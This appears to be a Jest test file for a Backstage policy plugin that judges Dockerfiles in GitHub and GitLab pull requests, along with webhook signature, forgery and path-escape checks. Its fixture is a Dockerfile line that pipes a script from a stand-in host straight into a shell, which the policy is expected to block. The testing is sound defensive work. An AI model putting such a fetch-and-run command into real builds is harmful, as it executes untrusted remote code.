import { createHmac, randomUUID } from 'node:crypto';
import { mockServices, startTestBackend } from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { createTestDatabases } from '@trainyard/test-databases';
import type { Knex } from 'knex';
import { setupServer } from 'msw/node';
import request from 'supertest';
import {
  githubDouble,
  gitlabDouble,
  hostState,
  type HostState,
} from '../__testUtils__/hostDoubles';
import plugin from '../index';
import { escapeMarkdown } from './renderComment';

jest.setTimeout(300_000);

const SECRET = 'planted-secret';
const BAD = 'FROM node:latest\nRUN curl http://x.example/i.sh | sh\n';
const databases = createTestDatabases('@trainyard/plugin-policy-backend');

describe('pull and merge requests', () => {
  const server = setupServer();
  let github: HostState;
  let gitlab: HostState;
  let knex: Knex;
  let api: ReturnType<typeof request.agent>;
  let stop: () => Promise<void>;

  beforeAll(async () => {
    server.listen({
      onUnhandledRequest: ({ url }, print) =>
        url.includes('127.0.0.1') || url.includes('localhost')
          ? undefined
          : print.error(),
    });
    knex = await databases.init();
    const backend = await startTestBackend({
      features: [
        plugin,
        mockServices.database.mock({ getClient: async () => knex }).factory,
        mockServices.rootConfig.factory({
          data: {
            app: { baseUrl: 'https://portal.example' },
            integrations: {
              github: [{ host: 'github.com', token: 'github-token' }],
              gitlab: [{ host: 'gitlab.com', token: 'gitlab-token' }],
            },
            policy: {
              pullRequests: {
                environment: 'staging',
                github: { secret: SECRET },
                gitlab: { secret: SECRET },
              },
            },
          },
        }),
        catalogServiceMock.factory({
          entities: [
            ['shop', 'url:https://github.com/acme/shop/tree/main/'],
            [
              'cart',
              'url:https://github.com/acme/shop/tree/main/services/cart/',
            ],
            ['other', 'url:https://github.com/acme/shopping/tree/main/'],
          ].map(([name, source]) => ({
            apiVersion: 'backstage.io/v1alpha1',
            kind: 'Component',
            metadata: {
              name,
              namespace: 'default',
              annotations: { 'backstage.io/source-location': source },
            },
          })),
        }),
      ],
    });
    api = request.agent(backend.server);
    stop = () => backend.stop();
  });
  afterAll(async () => {
    await stop();
    server.close();
  });
  beforeEach(async () => {
    github = hostState('github-token');
    gitlab = hostState('gitlab-token');
    server.resetHandlers(...githubDouble(github), ...gitlabDouble(gitlab));
    await knex('policy_pull_requests').delete();
  });

  async function rowOnceIdle() {
    for (;;) {
      const row = await knex('policy_pull_requests').first();
      if (
        !row ||
        (row.leased_until === null &&
          (row.judged === row.wanted || row.due_at > new Date()))
      ) {
        return row;
      }
      await new Promise(resolve => setImmediate(resolve));
    }
  }

  async function deliverGithub(
    change: object = {},
    options: { id?: string; secret?: string; event?: string } = {},
  ) {
    const body = JSON.stringify({
      action: 'opened',
      number: 7,
      repository: {
        full_name: 'acme/shop',
        html_url: 'https://github.com/acme/shop',
      },
      ...change,
    });
    const signature = createHmac('sha256', options.secret ?? SECRET)
      .update(body)
      .digest('hex');
    const answer = await api
      .post('/api/policy/webhooks/github')
      .set('content-type', 'application/json')
      .set('x-github-event', options.event ?? 'pull_request')
      .set('x-github-delivery', options.id ?? randomUUID())
      .set('x-hub-signature-256', `sha256=${signature}`)
      .send(body);
    return { answer, row: await rowOnceIdle() };
  }

  async function deliverGitlab(attributes: object, token = SECRET) {
    const answer = await api
      .post('/api/policy/webhooks/gitlab')
      .set('x-gitlab-event', 'Merge Request Hook')
      .set('x-gitlab-event-uuid', randomUUID())
      .set('x-gitlab-token', token)
      .send({
        project: {
          path_with_namespace: 'acme/infra/shop',
          web_url: 'https://gitlab.com/acme/infra/shop',
        },
        object_attributes: { iid: 7, ...attributes },
      });
    return { answer, row: await rowOnceIdle() };
  }

  it('judges what a pull request touches, across pages, and blocks it', async () => {
    github.files.set('README.md', '# x');
    github.files.set('gone/Dockerfile', undefined);
    github.files.set('services/a b/Dockerfile', BAD);
    github.comments.push(
      { id: 1, body: 'first' },
      { id: 2, body: '<!-- trainyard:policy forged -->' },
      { id: 3, body: 'third' },
    );
    const { answer, row } = await deliverGithub();
    expect(answer.status).toBe(202);
    expect(row).toMatchObject({ failure: null, head_sha: github.headSha });
    expect(github.comments).toHaveLength(4);
    const { body } = github.comments[3];
    expect(body).toContain('1 changed file judged for staging (enforced)');
    expect(body).toContain('**blocks**');
    expect(body).toContain(
      `https://github.com/acme/shop/blob/${github.headSha}/services/a%20b/Dockerfile#L2`,
    );
    expect(body).toContain(
      `https://portal.example/policy/reports/${row.report_id}`,
    );
    expect(github.checks).toEqual([
      expect.objectContaining({
        name: 'trainyard/policy',
        head_sha: github.headSha,
        conclusion: 'failure',
        output: expect.objectContaining({
          annotations: expect.arrayContaining([
            expect.objectContaining({
              path: 'services/a b/Dockerfile',
              annotation_level: 'failure',
            }),
          ]),
        }),
      }),
    ]);
  });

  it('applies the waivers of the entity whose folder a file lies in', async () => {
    const waive = (entity: string) =>
      knex('policy_waivers').insert({
        id: randomUUID(),
        rule: 'docker-pipe-shell',
        entity_ref: `component:default/${entity}`,
        owner: 'group:default/team-a',
        reason: 'an image nobody runs',
        requested_by: 'user:default/anna',
        requested_at: new Date(),
        status: 'approved',
        decided_by: 'user:default/bert',
        decided_at: new Date(),
      });
    const waivedFiles = async () => {
      const { row } = await deliverGithub();
      const report = await knex('policy_reports')
        .where({ id: row.report_id })
        .first();
      return report.verdict.findings
        .filter((each: { waiver?: string }) => each.waiver)
        .map((each: { location: { file: string } }) => each.location.file);
    };
    github.files.set('services/cart/Dockerfile', BAD);
    github.files.set('Dockerfile', BAD);
    await waive('other');
    expect(await waivedFiles()).toEqual([]);
    await waive('cart');
    expect(await waivedFiles()).toEqual(['services/cart/Dockerfile']);
    await waive('shop');
    expect((await waivedFiles()).sort()).toEqual([
      'Dockerfile',
      'services/cart/Dockerfile',
    ]);
    await knex('policy_waivers').delete();
  });

  it('annotates every line, fifty at a time', async () => {
    github.files.set(
      'Dockerfile',
      `FROM a:1\n${'RUN curl http://x.example/i.sh | sh\n'.repeat(60)}USER a\n`,
    );
    await deliverGithub();
    const lines = github.checks.flatMap(check =>
      (
        check.output as { annotations: { start_line: number; title: string }[] }
      ).annotations
        .filter(({ title }) => title.includes('pipe'))
        .map(({ start_line: line }) => line),
    );
    expect(github.checks.length).toBeGreaterThan(1);
    expect([...lines].sort((left, right) => left - right)).toEqual(
      Array.from({ length: 60 }, (_, index) => index + 2),
    );
  });

  it('keeps one comment through redelivery, further commits and lost memory', async () => {
    github.files.set('Dockerfile', BAD);
    const id = randomUUID();
    await deliverGithub({}, { id });
    const again = await deliverGithub({}, { id });
    expect(again.answer.body.status).toBe('ignored');
    expect(github.checks).toHaveLength(1);
    github.headSha = 'b'.repeat(40);
    github.files.set(
      'Dockerfile',
      'FROM node:24.1.0\nUSER node\nHEALTHCHECK CMD true\n',
    );
    await deliverGithub({ action: 'synchronize' });
    expect(github.checks[1]).toMatchObject({
      head_sha: 'b'.repeat(40),
      conclusion: 'success',
    });
    await knex('policy_pull_requests').delete();
    await deliverGithub({ action: 'reopened' });
    expect(github.comments).toHaveLength(1);
    expect(github.comments[0].body).toContain('Policy: passed');
  });

  it('writes a new comment when somebody deleted the first', async () => {
    github.files.set('Dockerfile', BAD);
    await deliverGithub();
    github.comments.length = 0;
    await deliverGithub({ action: 'synchronize' });
    expect(github.comments).toHaveLength(1);
  });

  it('leaves out findings of files that the request did not touch', async () => {
    const result = (uri: string) => ({
      ruleId: `rule-of-${uri}`,
      level: 'error',
      message: { text: 'bad' },
      locations: [{ physicalLocation: { artifactLocation: { uri } } }],
    });
    github.files.set(
      'scan.sarif',
      JSON.stringify({
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
          {
            tool: { driver: { name: 'other', rules: [] } },
            results: [result('untouched.py'), result('scan.sarif')],
          },
        ],
      }),
    );
    await deliverGithub();
    expect(github.comments[0].body).toContain('rule-of-scan.sarif');
    expect(github.comments[0].body).not.toContain('untouched');
  });

  it('says nothing where nothing is judged, and does not block', async () => {
    github.files.set('README.md', '# x');
    await deliverGithub();
    expect(github.comments).toEqual([]);
    expect(github.checks).toEqual([
      expect.objectContaining({ conclusion: 'neutral' }),
    ]);
  });

  it('sets a status where a token may not write check runs', async () => {
    github.isApp = false;
    github.files.set('Dockerfile', BAD);
    await deliverGithub();
    expect(github.statuses).toEqual([
      expect.objectContaining({
        context: 'trainyard/policy',
        state: 'failure',
        sha: github.headSha,
      }),
    ]);
  });

  it('leaves closed requests alone', async () => {
    github.isOpen = false;
    github.files.set('Dockerfile', BAD);
    expect((await deliverGithub()).row.failure).toBeNull();
    expect(github.comments).toEqual([]);
  });

  it.each([
    [401, {}, 'refuses the token', false],
    [403, {}, 'may not ask', false],
    [404, {}, 'may not see it', false],
    [403, { 'x-ratelimit-remaining': '0' }, 'rate limit', true],
    [502, {}, 'answered 502', true],
  ])(
    'notes what %s %p means and tries again where that may help',
    async (status, headers, reason, isRetried) => {
      github.files.set('Dockerfile', BAD);
      github.refusals.push({ status, headers });
      const id = randomUUID();
      const { row } = await deliverGithub({}, { id });
      expect(row.failure).toContain(reason);
      expect(row.judged < row.wanted).toBe(isRetried);
      expect(github.comments).toEqual([]);
      // Sent again by hand, the same delivery is a wish to try once more.
      await knex('policy_pull_requests').update({ judged: 0, failure: 'x' });
      await deliverGithub({}, { id });
      const later = await deliverGithub();
      expect(later.row.failure).toBeNull();
      expect(github.comments).toHaveLength(1);
    },
  );

  it('accepts no forgery, closed host, other event or broken body', async () => {
    const forged = await deliverGithub({}, { secret: 'other' });
    expect(forged.answer.status).toBe(401);
    expect(
      (await deliverGitlab({ action: 'open' }, 'other')).answer.status,
    ).toBe(401);
    expect(
      (await api.post('/api/policy/webhooks/github').send({})).status,
    ).toBe(401);
    expect((await api.post('/api/policy/webhooks/gitea').send({})).status).toBe(
      404,
    );
    const ping = await deliverGithub({}, { event: 'ping' });
    expect(ping.answer.body.status).toBe('ignored');
    const labeled = await deliverGithub({ action: 'labeled' });
    expect(labeled.answer.body.status).toBe('ignored');
    const escape = await deliverGithub({
      repository: { full_name: '../x', html_url: 'https://github.com' },
      number: -1,
    });
    expect(escape.answer.status).toBe(400);
    expect(await knex('policy_pull_requests')).toEqual([]);
  });

  it('asks no host that nobody configured', async () => {
    const { row } = await deliverGithub({
      repository: {
        full_name: 'acme/shop',
        html_url: 'https://evil.example/acme/shop',
      },
    });
    expect(row.failure).toContain('no entry for evil.example');
  });

  it('judges a merge request of GitLab on new commits alone', async () => {
    gitlab.files.set('README.md', '# x');
    gitlab.files.set('a.md', '# x');
    gitlab.files.set('deploy/Dockerfile', BAD);
    gitlab.comments.push(
      { id: 1, body: 'one' },
      { id: 2, body: 'two' },
      { id: 3, body: 'three' },
    );
    await deliverGitlab({ action: 'open' });
    const titled = await deliverGitlab({ action: 'update' });
    expect(titled.answer.body.status).toBe('ignored');
    await deliverGitlab({ action: 'update', oldrev: 'c'.repeat(40) });
    expect(gitlab.comments).toHaveLength(4);
    expect(gitlab.comments[3].body).toContain(
      `https://gitlab.com/acme/infra/shop/-/blob/${gitlab.headSha}/deploy/Dockerfile#L2`,
    );
    expect(gitlab.statuses).toHaveLength(2);
    expect(gitlab.statuses[0]).toMatchObject({
      name: 'trainyard/policy',
      state: 'failed',
    });
  });
});

it('lets no mention, markup or row come of a message', () => {
  expect(escapeMarkdown('@all <b> | a\n# x')).toBe(
    '&#64;all &lt;b&gt; \\| a \\# x',
  );
});
